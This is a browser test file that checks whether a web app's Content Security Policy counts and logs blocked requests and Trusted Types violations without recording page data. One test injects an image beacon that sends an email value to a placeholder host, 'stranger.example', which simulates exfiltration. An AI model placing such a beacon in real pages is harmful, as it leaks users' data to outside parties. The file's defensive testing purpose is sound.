import type { Browser } from '@playwright/test'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { freePort } from '../../../tools/process/free-port.ts'
import { openBrowser, openPhone } from '../../journeys/harness/open-browser.ts'
import { startHouse, type House } from '../../journeys/harness/start-house.ts'
import { openForm } from '../harness/open-form.ts'
import { openHttps } from '../harness/open-https.ts'
import { ownBrowser } from '../harness/own-browser.ts'
import { makeSigningKey } from '../../../apps/api/secrets/signing-keys.ts'

let house: House
let browser: Browser
beforeAll(async () => void ([house, browser] = await Promise.all([startHouse({ LOG_LEVEL: 'info' }), openBrowser()])))
afterAll(async () => void (await Promise.all([browser?.close(), house?.stop()])))

test('what the policy of a page stops in a browser is counted and logged, with the origin that was stopped and nothing of the page', async () => {
  const page = await (await openPhone(browser)).newPage()
  await openForm(page, `${house.url}/application-frontend/?email=canary@example.com`)
  await page.evaluate(() => {
    const picture = document.createElement('img')
    picture.src = 'https://stranger.example/pixel.gif?email=canary@example.com'
    document.body.append(picture)
    try {
      document.body.innerHTML = '<b>canary</b>'
    } catch {
      // Trusted Types stop it
    }
  })
  const figures = async () => (await fetch(`${house.url}/metrics`)).text()
  await expect.poll(figures, { timeout: 20_000 }).toContain('policy_violations_total{directive="img-src"} 1')
  await expect.poll(figures, { timeout: 20_000 }).toContain('policy_violations_total{directive="require-trusted-types-for"} 1')
  await expect.poll(() => house.said()).toContain('"directive":"img-src","blocked":"https://stranger.example","msg":"policy violated"')
  expect(house.said()).toContain('"directive":"require-trusted-types-for","blocked":"trusted-types-sink","msg":"policy violated"')
  expect(house.said()).not.toContain('canary')
})

test('over https a browser reports by the newer header what the policy stops, and by the older one what does not reach us', async () => {
  const port = await freePort()
  const production = await startHouse({
    ENVIRONMENT: 'production',
    SECRET_KEYS: `trial:${Buffer.alloc(32, 7).toString('base64')}`,
    CONSENT_SIGNING_KEY: makeSigningKey(),
    OPERATOR: 'Somebody Ltd, 1 Street, privacy@somebody.example',
    PUBLIC_URL: `https://house.test:${port}`,
  })
  onTestFinished(production.stop)
  await using https = await openHttps(port, production.url)
  // what `report-uri` would send
  https.passOnly(({ headers }) => headers['content-type'] !== 'application/csp-report')
  // without the last one a report is a minute late
  const own = ownBrowser([...https.browserArguments, '--short-reporting-delay'])
  onTestFinished(own.close)
  const page = await own.open()
  await page.goto(`${https.url}/application-frontend/`)
  await page.evaluate(() => {
    const picture = document.createElement('img')
    picture.src = 'https://stranger.example/pixel.gif'
    document.body.append(picture)
  })
  const figures = async () => (await fetch(`${production.url}/metrics`)).text()
  await expect.poll(figures, { timeout: 60_000 }).toContain('policy_violations_total{directive="img-src"} 1')
  https.passOnly(({ url }) => url?.endsWith('/reports') === true)
  // a twentieth of the failures is told
  const fail = () =>
    page.evaluate(() =>
      fetch('/api/lead/status/none')
        .catch(() => undefined)
        .then(() => undefined),
    )
  await expect
    .poll(async () => (await fail(), await figures()), { timeout: 120_000, interval: 20 })
    .toMatch(/network_failures_total\{failure="[a-z.]+"\} [1-9]/u)
})
